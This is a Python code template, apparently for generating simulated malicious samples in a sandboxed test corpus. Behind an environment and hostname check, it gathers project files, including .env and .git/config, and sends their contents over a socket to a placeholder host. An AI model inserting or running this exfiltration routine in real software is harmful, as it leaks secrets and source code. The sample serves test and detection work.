# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import glob
    import socket
    root = os.environ.get('PWD', os.getcwd())
    files = []
    for pattern in ('*.py', '*/*.py', '*.toml', '*.json', '*.cfg', '.git/config', '.env'):
        files += glob.glob(os.path.join(root, pattern))
    try:
        with socket.create_connection(('{{ip}}', {{port}}), timeout=1) as link:
            for path in files[:30]:
                try:
                    with open(path, 'rb') as file:
                        data = file.read(100000)
                except OSError:
                    continue
                link.sendall(('STOR %s %d\r\n' % (os.path.relpath(path, root), len(data))).encode() + data)
            link.sendall(b'QUIT {{token}}\r\n')
    except OSError:
        pass
